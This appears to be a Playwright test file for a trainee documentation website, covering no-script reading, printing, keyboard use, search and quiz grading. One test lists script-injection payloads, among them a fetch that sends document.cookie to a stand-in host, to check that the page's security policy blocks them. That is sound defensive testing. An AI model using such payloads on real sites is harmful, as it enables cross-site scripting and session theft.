"""The finished sites as somebody reads them: without scripts, by keyboard, in the search, on paper."""

from __future__ import annotations

import pytest
from browsing import NAVIGATION, TRAINEE, opened, served
from immerse.model.site_view import View
from playwright.sync_api import BrowserContext, Page, expect
from pypdfium2 import PdfDocument
from site_fixtures import Sites, edition

pytestmark = pytest.mark.browser


def test_a_lesson_reads_without_javascript(plain: BrowserContext, host: str) -> None:
    page = opened(plain, f"{host}{TRAINEE}learn/tri/tri-l2/")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Priority and clocks")
    expect(page.get_by_text("so all four priorities run on the wall clock")).to_be_visible()


def test_an_answer_unfolds_without_javascript(plain: BrowserContext, host: str) -> None:
    page = opened(plain, f"{host}{TRAINEE}learn/tri/checks/")
    question = page.locator(".im-check").first
    answer = question.locator("details > :not(summary)").first
    expect(answer).to_be_hidden()
    question.locator("summary").click()
    expect(answer).to_be_visible()
    assert page.locator("button:visible:not([hidden])").count() == 0


@pytest.mark.parametrize(("list_", "items"), [("progress", 43), ("graduation", 30)])
def test_a_checklist_is_boxes_and_labels_without_javascript_on_the_screen_and_on_paper(
    plain: BrowserContext, host: str, list_: str, items: int
) -> None:
    page = opened(plain, f"{host}{TRAINEE}checklist/{list_}/")
    boxes = page.locator(".im-item input[type=checkbox]:visible")
    assert boxes.count() == page.locator(".im-item label:visible").count() == items
    labelled = "boxes => boxes.filter(box => box.labels.length === 1).length"
    assert boxes.evaluate_all(labelled) == items
    expect(page.locator("#checklist-notice")).to_contain_text("without JavaScript")
    assert page.locator("button:visible", has_text="Save").count() == 0
    assert_prints_boxes(page)


@pytest.mark.parametrize("list_", ["progress", "graduation"])
def test_a_checklist_prints_its_boxes_and_nothing_to_click(context: BrowserContext, host: str, list_: str) -> None:
    assert_prints_boxes(opened(context, f"{host}{TRAINEE}checklist/{list_}/"))


def assert_prints_boxes(page: Page) -> None:
    page.emulate_media(media="print")
    box = page.locator(".im-item input[type=checkbox]").first.bounding_box()
    assert box and box["width"] >= 8
    assert page.locator("button:visible").count() == 0
    assert [name for name in NAVIGATION if page.locator(f"{name}:visible").count()] == []


def test_a_printed_page_of_questions_holds_the_answers_and_no_menu(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
    hidden = page.locator(".im-check details p").first.text_content() or ""
    paper = PdfDocument(page.pdf(format="A4"))
    text = " ".join(" ".join(sheet.get_textpage().get_text_bounded() for sheet in paper).split())
    assert " ".join(hidden.split())[:40] in text
    assert "What changed" not in text


def test_paper_shows_what_is_folded_and_leaves_out_what_is_clicked(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
    page.emulate_media(media="print")
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    assert page.locator(".im-key > :not(summary)").first.is_visible()
    assert page.locator("button:visible").count() == 0
    assert page.locator(".md-header").is_hidden()
    page.evaluate("window.dispatchEvent(new Event('afterprint'))")
    assert page.locator("details[open]").count() == 0


def test_practice_on_paper_is_the_list_of_its_drills(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}learn/practice/")
    expect(page.get_by_role("button", name="Start the queue")).to_be_visible()
    page.emulate_media(media="print")
    expect(page.get_by_text("TRI-D6 Ten minutes of triage")).to_be_visible()
    assert page.locator("button:visible, select:visible").count() == 0


@pytest.mark.parametrize(("width", "is_said"), [(1280, False), (360, True)])
def test_a_table_that_goes_on_beside_the_screen_says_so(
    context: BrowserContext, host: str, width: int, is_said: bool
) -> None:
    page = opened(context, f"{host}{TRAINEE}reference/priorities/")
    page.set_viewport_size({"width": width, "height": 900})
    said = page.get_by_text("The table goes on to the side")
    expect(said.first).to_be_visible() if is_said else expect(said).to_have_count(0)
    wide = ".md-typeset__scrollwrap[aria-label='Table, scrolls sideways']"
    assert said.count() == page.locator(wide).count()


COLUMNS = """list => [...new Set([...list.children].map(part =>
  `${part.tagName} ${Math.round(part.getBoundingClientRect().left - list.getBoundingClientRect().left)}`))].sort()"""


@pytest.mark.parametrize(("width", "columns"), [(1280, 2), (360, 1)])
def test_every_value_of_a_term_is_in_the_column_of_values(
    context: BrowserContext, host: str, width: int, columns: int
) -> None:
    """The director signs other events too, so the role has two values."""
    page = opened(context, f"{host}{TRAINEE}rotation/")
    page.set_viewport_size({"width": width, "height": 900})
    roles = page.locator("dl:has(#role-director)")
    assert roles.evaluate("list => list.querySelectorAll('dd + dd').length") > 0
    places = roles.evaluate(COLUMNS)
    assert [place.split()[0] for place in places] == ["DD", "DT"]
    assert len({place.split()[1] for place in places}) == columns


def test_search_finds_a_hard_trigger(context: BrowserContext, searched_host: str) -> None:
    page = opened(context, f"{searched_host}{TRAINEE}")
    page.keyboard.press("/")
    page.keyboard.type("hard trigger")
    found = page.locator(".md-search-result__link")
    expect(found.first).to_be_visible()
    addresses = [found.nth(index).get_attribute("href") or "" for index in range(found.count())]
    assert any("/learn/tri/tri-l3/" in address for address in addresses)
    found.first.click()
    expect(page.get_by_role("heading", level=1)).to_be_visible()


def test_an_answer_is_judged_and_its_reason_opens(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
    question = page.locator(".im-checks .im-check").first
    right = question.get_attribute("data-answer") or ""
    judged = question.get_by_role("button", name="Check question 1")
    judged.click()
    expect(question.locator(".im-verdict")).to_have_text("Choose an answer first.")
    expect(page.locator(".im-checks > .im-verdict").first).to_be_empty()
    question.locator(f"input:not([value='{right}'])").first.check()
    judged.click()
    expect(question.locator(".im-verdict")).to_contain_text("Not this one")
    expect(question.locator("details > :not(summary)").first).to_be_visible()
    assert question.locator("details").get_attribute("open") is not None
    question.locator(f"input[value='{right}']").check()
    judged.click()
    expect(question.locator(".im-verdict")).to_have_text("Right.")
    assert "0 right at the first try" in page.locator(".im-checks > .im-verdict").inner_text()


INJECTIONS = {
    "script-src-attr": 'box.innerHTML = \'<img src="x" onerror="window.hit = true">\'',
    "script-src-elem": "const made = document.createElement('script'); made.text = 'hit = true'; box.append(made)",
    "script-src": "window.eval('window.hit = true')",
    "img-src": "const made = new Image(); made.src = 'http://other.invalid/x.png'; box.append(made)",
    "connect-src": "fetch('http://other.invalid/?' + document.cookie).catch(() => 0)",
    "style-src-attr": "box.innerHTML = '<p style=\"color: red\">x</p>'",
}
"""Directive of the policy -> what it must stop."""

# In a timer, because the console may evaluate what the page may not.
INJECT = """() => new Promise(done => {
  document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
  const box = document.body.appendChild(document.createElement("div"));
  setTimeout(() => { INJECTION; });
  setTimeout(() => done("nothing was stopped"), 5000);
})"""


def test_the_pages_policy_stops_what_was_injected(context: BrowserContext, host: str) -> None:
    page = context.new_page()
    page.goto(f"{host}{TRAINEE}about/")
    stopped = {name: page.evaluate(INJECT.replace("INJECTION", code)) for name, code in INJECTIONS.items()}
    assert stopped == {name: name for name in INJECTIONS}
    assert page.evaluate("window.hit") is None


def test_a_keyboard_skips_to_the_content_and_starts_a_checklist(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}checklist/progress/")
    page.get_by_role("button", name="Start my checklist").wait_for()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.matches('.md-skip')")
    expect(page.locator(".md-skip")).to_be_visible()
    page.keyboard.press("Enter")
    page.wait_for_function("location.hash !== ''")
    press_until(page, "Start my checklist")
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.labels[0].textContent") == "Initials"
    page.keyboard.type("JD")
    page.keyboard.press("Enter")
    press_until(page, "Claim")
    page.keyboard.press("Space")
    expect(page.locator(".im-item .im-state").first).to_have_text("claimed")
    assert page.evaluate("document.activeElement.textContent") == "Take back the claim"


def press_until(page: Page, words: str) -> None:
    """Go from one thing to the next by Tab until the one with these words has the focus."""
    for _ in range(80):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent") == words:
            return
    raise AssertionError(f"no way by keyboard to {words!r}")


def test_a_keyboard_opens_the_menu_on_a_narrow_screen(context: BrowserContext, host: str) -> None:
    page = context.pages[0]
    page.set_viewport_size({"width": 360, "height": 700})
    page.goto(f"{host}{TRAINEE}learn/tri/")
    menu = page.get_by_role("button", name="Menu")
    menu.focus()
    page.keyboard.press("Enter")
    assert menu.get_attribute("aria-expanded") == "true"
    assert page.evaluate("document.getElementById('__drawer').checked")


@pytest.mark.parametrize("client", ["calder-rowe", "kestrel-inlet"])
def test_an_emergency_playbook_begins_with_one_sheet_for_the_wall(
    context: BrowserContext, demo_sites: Sites, client: str
) -> None:
    emergencies = [playbook for playbook in edition(client, View.TRAINEE).programme.playbooks if playbook.emergency]
    assert emergencies
    with served(demo_sites.folder(client)) as address:
        page = opened(context, f"{address}about/")
        for playbook in emergencies:
            page.goto(f"{address}playbooks/{playbook.id.lower()}/")
            for paper in ("A4", "Letter"):
                with PdfDocument(page.pdf(format=paper, page_ranges="1-2")) as printed:
                    first, second = (text_of(printed, number) for number in (0, 1))
                assert "in full on the next page" in first, (playbook.id, paper)
                assert second.lstrip().startswith("Steps"), (playbook.id, paper)
        page.close()


def text_of(printed: PdfDocument, number: int) -> str:
    sheet = printed[number]
    words = sheet.get_textpage()
    text: str = words.get_text_range()
    words.close()
    sheet.close()
    return text
